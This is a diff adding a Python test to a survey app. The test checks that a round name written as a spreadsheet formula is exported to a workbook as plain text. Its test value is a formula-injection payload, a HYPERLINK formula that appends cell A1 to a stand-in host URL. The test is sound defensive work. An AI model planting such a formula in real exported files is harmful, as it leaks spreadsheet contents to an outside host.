@@ -134,3 +134,12 @@ def test_charts_on_one_page_share_no_element_id(client_a, answered_round):
     body = client_a.get(urls(answered_round)[0]).content.decode()
     ids = Counter(re.findall(r'\sid="([^"]+)"', body))
     assert [name for name, count in ids.items() if count > 1] == []
+
+
+def test_a_round_named_like_a_formula_is_text_in_the_workbook(client_a, org_a, version):
+    round_ = make_round(org_a, version, name='=HYPERLINK("http://x.example"&A1,"Klicka här")')
+    submit(link(round_, "official"), 6)
+    publish(round_)
+    workbook = load_workbook(BytesIO(client_a.get(urls(round_)[2]).content))
+    name = workbook.worksheets[0]["B2"]
+    assert name.data_type == "s" and name.value.startswith("'=")
